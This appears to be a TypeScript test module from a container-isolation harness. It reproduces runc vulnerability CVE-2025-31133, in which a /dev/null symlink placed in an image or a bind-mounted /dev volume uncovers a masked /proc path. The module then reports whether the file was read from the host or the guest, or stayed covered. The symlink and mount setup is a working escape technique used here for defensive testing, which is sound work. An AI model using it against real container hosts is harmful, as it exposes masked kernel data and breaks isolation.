import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { contained, escaped, reachedGuest, type Attack } from '../../attack.ts'
import { hostBootId } from '../../containerd-host.ts'

const masked = '/proc/sys/kernel/random/boot_id'

/**
 * runc covered a masked file with the container's own /dev/null, whatever that was, and let it be where there was none. The
 * published exploits replace it in a race, after the devices are made; a volume as /dev, in which no runtime makes any, has the link
 * there from the start. An image whose /dev has it is tried as well.
 */
export const attack: Attack = {
  id: 'CVE-2025-31133',
  title: 'a masked path is uncovered by a /dev/null of the image\'s or a volume\'s that is a link',
  family: 'container',
  leak: 'what is masked: /proc/kcore, keys, the host\'s firmware tables',
  bound: 'container',
  control: { weak: 'runc without the mask, which is what the exploits come to (1.1.5 has the bug: its own column shows it)' },
  async run(site) {
    const seen: string[] = []
    for (const where of ['image', 'volume'] as const) {
      for (const target of ['/attack/none', '/attack/public']) {
        const volume = `${site.directory}/${where}-${target.slice(8)}`
        mkdirSync(volume)
        if (where === 'volume') symlinkSync(target, `${volume}/null`)
        const { stdout, stderr, refusal } = await site.attempt({
          args: ['cat', masked],
          rootfs: (layer) => {
            site.host.shell(`mkdir -p ${layer}/attack ${layer}/dev`)
            writeFileSync(`${layer}/attack/public`, `public ${site.secret}\n`)
            if (where === 'image') symlinkSync(target, `${layer}/dev/null`)
          },
          spec: (spec) => {
            spec.mounts = spec.mounts.filter(({ destination }) => !destination.startsWith('/dev'))
            if (where === 'volume') spec.mounts.push({ destination: '/dev', type: 'bind', source: volume, options: ['rbind', 'rw'] })
            spec.linux.maskedPaths = site.weak ? [] : [masked]
          },
        })
        const how = `/dev/null of the ${where} → ${target}`
        if (stdout.includes(hostBootId())) return escaped(`${masked} of the host's kernel was read, with ${how}`)
        if (/^[0-9a-f-]{36}$/m.test(stdout)) return reachedGuest(`${masked} of the guest's kernel was read, with ${how}`)
        if (stdout.includes(site.secret)) return reachedGuest(`${masked} is covered by a file of the attacker's, with ${how}`)
        seen.push(refusal ?? `${how}: «${stdout}» ${stderr}`)
      }
    }
    return contained(`${masked} stays covered: ${seen.join(' / ')}`)
  },
}
